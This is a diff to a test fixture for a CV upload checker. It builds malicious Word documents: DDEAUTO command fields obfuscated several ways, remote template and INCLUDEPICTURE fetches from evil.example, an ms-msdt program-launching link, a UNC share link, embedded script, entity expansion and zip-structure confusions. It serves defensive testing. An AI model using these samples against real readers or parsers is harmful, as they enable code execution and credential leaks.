@@ -69,6 +69,25 @@ function lying(): Buffer {
   file.writeUInt16LE(60_000, file.lastIndexOf(Buffer.from('504b0506', 'hex')) + 10);
   return file;
 }
+/** Told apart from what the directory says by whoever reads the archive from its front. */
+function twoNames(): Buffer {
+  const file = textDocx(lines, { 'word/theme.xml': '<a/>' });
+  file.write('word/evil_.xml', file.indexOf('word/theme.xml'), 'latin1');
+  return file;
+}
+/** Behind the end that is found first, another one that is found last. */
+function twoEnds(): Buffer {
+  const file = textDocx(lines);
+  return Buffer.concat([file, Buffer.from('another archive')]);
+}
+function packedAnotherWay(): Buffer {
+  const file = textDocx(lines);
+  file.writeUInt16LE(12, file.indexOf(Buffer.from('504b0102', 'hex')) + 10);
+  return file;
+}
+const part = (inside: string) => `<?xml version="1.0"?><w:document><w:body>${inside}</w:body></w:document>`;
+const relations = (inside: string) => `<?xml version="1.0"?><Relationships>${inside}</Relationships>`;
+const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 });
 const stream = (dictionary: string, content: Buffer) =>
   `<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`;
@@ -164,10 +183,93 @@ export function hostileCvs(): HostileCv[] {
     { name: 'a document that lies about its parts', content: lying(), becomes: 'damaged' },
     { name: 'a document with a way out of its folder', content: textDocx(lines, { '../../evil.xml': 'x' }), becomes: 'damaged' },
     { name: 'a document nested without end', content: textDocx(lines, { 'word/document.xml': `${deep}${body(lines)}` }), becomes: 'taken' },
+    ...hiddenInDocuments(),
     {
       name: 'a document with a link that waits for a click',
       content: textDocx(lines, { 'word/_rels/document.xml.rels': relationship('hyperlink', 'https://example.com') }),
       becomes: 'taken',
+    },
+  ];
+}
+
+/** Tricks that only work when a document is read otherwise here than by the program that opens it. */
+function hiddenInDocuments(): HostileCv[] {
+  const code = (inside: string) => textDocx(lines, { 'word/document.xml': part(inside) });
+  const link = (inside: string) => textDocx(lines, { 'word/_rels/document.xml.rels': relations(inside) });
+  const active: Readonly<Record<string, Buffer>> = {
+    'with a command in small letters': code('<w:instrText>ddeauto c:\\cmd.exe</w:instrText>'),
+    'with a command in pieces': code('<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>'),
+    'with a command in pieces, behind another': code(
+      '<w:instrText>PAGE</w:instrText><w:fldChar/><w:fldChar/><w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>',
+    ),
+    'with a command around a remark': code('<w:instrText>DDE<!-- x -->AUTO cmd</w:instrText>'),
+    'with a command spelled with numbers': code('<w:instrText>&#68;&#x44;EAUTO cmd</w:instrText>'),
+    'with a command reckoned from numbers': code('<w:instrText>QUOTE 68 68 69 65</w:instrText>'),
+    'with a command in an attribute': code('<w:fldSimple w:x="a > b" w:instr=" DDEAUTO cmd "/>'),
+    'with a command under another prefix': code('<x:instrText>DDEAUTO cmd</x:instrText>'),
+    'with a command set apart': code('<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>'),
+    'with a command in a part that is not called words': textDocx(lines, {
+      'word/second.dat': part('<w:instrText>DDEAUTO cmd</w:instrText>'),
+    }),
+    'with a picture that a command fetches': code('<w:instrText> INCLUDEPICTURE "https://evil.example/p.png" </w:instrText>'),
+    'with words from elsewhere': code('<w:instrText>INCLUDETEXT "https://evil.example/a.docx"</w:instrText>'),
+    'that takes a web page for its words': link(`<Relationship Id="r1" Type="${office}/aFChunk" Target="a.dat"/>`),
+    'that takes another document for its words': link(`<Relationship Id="r1" Type="${office}/subDocument" Target="a.docx"/>`),
+    'with a template whose address looks like a link': link(
+      `<Relationship Id="r1" Target='http://evil.example/?Type="a/hyperlink"' Type="${office}/attachedTemplate" TargetMode="External"/>`,
+    ),
+    'with a template whose address looks like one of its own': link(
+      `<Relationship Id="r1" Target='http://evil.example/?TargetMode="Internal"' Type="${office}/attachedTemplate" TargetMode="External"/>`,
+    ),
+    'with a template behind a wide equals sign': link(
+      `<Relationship Id${' '.repeat(40)}=" Type='a/hyperlink' " Type="${office}/attachedTemplate" Target="http://evil.example" TargetMode="External"/>`,
+    ),
+    'with a frame spelled with numbers': link(
+      `<Relationship Id="r1" Type="${office}/frame" Target="http://evil.example" TargetMode="&#69;xternal"/>`,
+    ),
+    'with a link that starts a program': link(
+      `<Relationship Id="r1" Type="${office}/hyperlink" Target="ms-msdt:/id PCWDiagnostic" TargetMode="External"/>`,
+    ),
+    'with a link to a shared folder': link(
+      `<Relationship Id="r1" Type="${office}/hyperlink" Target="\\\\evil.example\\share\\x" TargetMode="External"/>`,
+    ),
+    'with a web page inside': textDocx(lines, { 'word/page.html': '<script>alert(1)</script>' }),
+    'that calls a part a web page': textDocx(lines, { '[Content_Types].xml': `${types}<Override ContentType="text/html"/>` }),
+    'that names an entity within an entity': code('<!ENTITY a "&b;&b;&b;&b;">'),
+  };
+  const damaged: Readonly<Record<string, Buffer>> = {
+    'in another alphabet of bytes': textDocx(lines, {
+      'word/document.xml': Buffer.from(`\uFEFF${part('<w:instrText>DDEAUTO cmd</w:instrText>')}`, 'utf16le'),
+    }),
+    'that says it is in an old alphabet': textDocx(lines, { 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><w:document/>' }),
+    'whose part has two names': twoNames(),
+    'with something behind its end': twoEnds(),
+    'packed in a way that nobody uses': packedAnotherWay(),
+    'of five hundred parts': textDocx(lines, Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`word/a${at}.xml`, '<a/>']))),
+  };
+  return [
+    ...Object.entries(active).map(([name, content]): HostileCv => ({ name: `a document ${name}`, content, becomes: 'active-content' })),
+    ...Object.entries(damaged).map(([name, content]): HostileCv => ({ name: `a document ${name}`, content, becomes: 'damaged' })),
+    {
+      name: 'a document whose words are called like a command',
+      content: textDocx(['Maria Santos', 'LINK and QUOTE, DDE of 2004, INCLUDE']),
+      becomes: 'taken',
+    },
+    {
+      name: 'a table called a CV',
+      content: zipOf(
+        [
+          { name: '[Content_Types].xml', content: Buffer.from(types) },
+          { name: 'xl/workbook.xml', content: Buffer.from('<a/>') },
+        ],
+        at,
+      ),
+      becomes: 'other-type',
+    },
+    {
+      name: 'a document without words',
+      content: zipOf([{ name: '[Content_Types].xml', content: Buffer.from(types) }], at),
+      becomes: 'other-type',
     },
   ];
 }
